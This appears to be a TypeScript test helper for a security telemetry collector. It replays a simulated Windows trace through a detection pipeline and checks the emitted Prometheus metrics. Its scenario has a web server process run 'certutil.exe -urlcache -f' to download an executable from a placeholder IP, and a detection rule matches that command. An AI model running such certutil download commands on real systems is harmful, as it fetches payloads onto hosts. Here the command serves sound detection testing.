import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { etwConfig } from '../../receivers/etw/config.ts';
import { EtwReceiver } from '../../receivers/etw/receiver.ts';
import { runConfig } from '../../src/cli/run_config.ts';
import { type AnyDefinition, defineReceiver } from '../../src/component.ts';
import { components } from '../../src/components.ts';
import { loadConfig } from '../../src/config/load.ts';
import { renderIssues } from '../../src/config/render.ts';
import { Source } from '../../src/config/source.ts';
import type { SessionFacts } from '../../src/windows/sessions/control.ts';
import { scenario } from '../scenario/scenario.ts';
import { TestIo } from './cli_io.ts';
import { FakeContainerd, kubernetesLabels } from './fake_containerd.ts';
import { type FakeSession, fakePlatform } from './live_receiver.ts';
import { metricFamilies } from './prometheus_text.ts';

/** Metrics that must be there before a run has shown all that it has: those that come with what befalls it. */
const LAST = [
  'sigel_receiver_events_lost_total',
  'sigel_processor_records_dropped_total',
  'sigel_exporter_records_dropped_total',
  'sigel_attribution_attributed_total',
  'sigel_pod_blind_time_total',
  'sigel_pod_records_limited_total',
  'sigel_signature_matches_total',
];
/** The pid of the pod's first process. */
const WEB = 4242;
const MAX_TURNS = 6000;

/**
 * The metrics that a node's run shows Prometheus, with their labels: everything of config/node.yaml and more, over sessions that are
 * traces and lose events, with a pod, to a peer that is not there. Takes a few seconds.
 */
export async function emittedMetrics(): Promise<ReadonlyMap<string, ReadonlySet<string>>> {
  const folder = mkdtempSync(join(tmpdir(), 'sigel-emitted-'));
  const containerd = new FakeContainerd(join(folder, 'containerd.sock'));
  try {
    await containerd.start();
    containerd.create('k8s.io', { id: 'web', labels: kubernetesLabels('web-1', 'web') });
    containerd.startTask('k8s.io', 'web', WEB);
    return await run(folder);
  } finally {
    containerd.kill();
    rmSync(folder, { recursive: true, force: true });
  }
}

async function run(folder: string): Promise<ReadonlyMap<string, ReadonlySet<string>>> {
  const facts: { eventsLost?: number } = {};
  const loaded = await loadConfig({
    configs: [new Source('config.yaml', configuration(folder))],
    env: {},
    unsupported: 'error',
    definitions: withEtw(folder, facts),
  });
  if (loaded.kind === 'wrong') throw new Error(renderIssues(loaded.issues));
  const io = new TestIo();
  let said = '';
  io.stderr.setEncoding('utf8').on('data', (text: string) => (said += text));
  const running = runConfig(loaded.config, io);
  try {
    for (let turn = 0; turn < MAX_TURNS; turn++) {
      await sleep(10);
      // What was lost before it looked first is none of its own.
      if (said.includes('everything is running')) facts.eventsLost = 7;
      const [, url] = /metrics are served .*url=(\S+)/.exec(said) ?? [];
      if (url === undefined) continue;
      const families = metricFamilies(await (await fetch(url)).text());
      if (LAST.every((name) => families.has(name))) return families;
    }
    throw new Error(`it did not come to all of its metrics:\n${said}`);
  } finally {
    io.interrupt();
    await running;
  }
}

/** All components, with an `etw` receiver that needs no Windows. */
function withEtw(folder: string, facts: Partial<SessionFacts>): readonly AnyDefinition[] {
  const etw = defineReceiver({
    type: 'etw',
    description: 'Plays a trace.',
    signals: ['logs'],
    config: etwConfig,
    create: (context, config, next) =>
      new EtwReceiver(context, config, next.logs, () => Promise.resolve(fakePlatform(folder, story(facts)))),
  });
  return [...components.filter(({ type, kind }) => type !== 'etw' || kind !== 'receiver'), etw];
}

/** The first process of the pod starts another, which a rule has an eye on. */
function story(facts: Partial<SessionFacts>): readonly FakeSession[] {
  const s = scenario({
    start: new Date().toISOString(),
    kernel: 'separate',
    session: { bufferSize: 16_384 },
  });
  const pod = s.container({ session: 3, silo: '9c3f5a1e-6b7d-4c80-8f42-1d2e3b4a5c6d' });
  const web = s.process({ commandLine: 'w3wp.exe -ap "Shop"', in: pod, pid: WEB });
  for (let i = 0; i < 3; i++) web.starts('certutil.exe -urlcache -f http://192.0.2.7/x.exe').exits(0);
  return [
    { name: 'sigel-events', trace: s.trace(), facts },
    { name: 'sigel-lifecycle', trace: s.kernelTrace(), shedLast: true, facts },
  ];
}

function configuration(folder: string): string {
  const rules = join(folder, 'rules');
  writeFileSync(`${rules}.yml`, RULE);
  return `
extensions:
  containerd: { endpoint: "unix:${join(folder, 'containerd.sock')}" }
  file_storage: { directory: "${join(folder, 'queue')}", create_directory: true }
receivers:
  etw: { preset: security, poll_interval: 100ms }
processors:
  memory_limiter:
  process:
  container_attribution:
  signature: { rules: ["${rules}.yml"] }
  rate_limit: { limits: [{ records_per_second: 1, burst: 1s }] }
  batch: { timeout: 10ms }
exporters:
  otlp_grpc:
    endpoint: "127.0.0.1:1"
    tls: { ca_pem: ${JSON.stringify(CA)} }
    retry_on_failure: { enabled: false }
    sending_queue: { storage: file_storage }
service:
  extensions: [containerd, file_storage]
  drain_timeout: 100ms
  telemetry:
    metrics:
      naming: collector
      readers: [{ pull: { exporter: { prometheus: { port: 0 } } } }]
  pipelines:
    logs:
      receivers: [etw]
      processors: [memory_limiter, process, container_attribution, signature, rate_limit, batch]
      exporters: [otlp_grpc]
`;
}

const RULE = `title: A download
id: 00000000-0000-4000-8000-000000000001
logsource: { product: windows, category: process_creation }
detection:
  selection: { CommandLine|contains: urlcache }
  condition: selection
level: high
`;

/** A certificate of nobody, whose key is gone. */
const CA = `-----BEGIN CERTIFICATE-----
MIIBdDCCARugAwIBAgIUE0SBHS8rA/dm2WQQK38vEQrLQrwwCgYIKoZIzj0EAwIw
DzENMAsGA1UEAwwEVGVzdDAgFw0yNjExMjcwODUxMzdaGA8yMTI2MTEwMzA4NTEz
N1owDzENMAsGA1UEAwwEVGVzdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABODr
jSmV25Zr3yfUfY5Etw+FDQ4Wnx8uwZ4wieTH7zi/bxiQcK25Tuhw+vG0vvLci846
0JeCau8bYQDkI4bcPSqjUzBRMB0GA1UdDgQWBBQbnhJ8gy2p8BjS07ArwvDneAuH
MzAfBgNVHSMEGDAWgBQbnhJ8gy2p8BjS07ArwvDneAuHMzAPBgNVHRMBAf8EBTAD
AQH/MAoGCCqGSM49BAMCA0cAMEQCIEBJkLhYdLftQpZzX0UIozrBf2l11NrxHYyT
unXRn82iAiAl+ENdBNqn3yMnyxZ/VzBoDWvzQI2RLz04hL3XTC8zRA==
-----END CERTIFICATE-----
`;
